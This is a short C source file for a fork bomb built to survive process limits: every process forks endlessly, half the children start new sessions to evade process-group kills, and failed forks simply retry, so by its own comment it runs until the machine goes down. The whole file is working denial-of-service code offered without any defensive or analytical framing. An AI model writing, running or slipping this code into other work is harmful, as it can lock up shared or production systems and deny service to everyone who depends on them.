/* A fork bomb for a box with a process limit: everybody forks for ever, and every other child has a session of
 * its own, where no kill of a process group finds it. Ends with its box. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    signal(SIGCHLD, SIG_IGN);
    for (unsigned n = 0;; n++) {
        pid_t pid = fork();
        if (pid == 0 && n % 2)
            setsid();
        if (pid < 0)
            usleep(1000);
    }
}
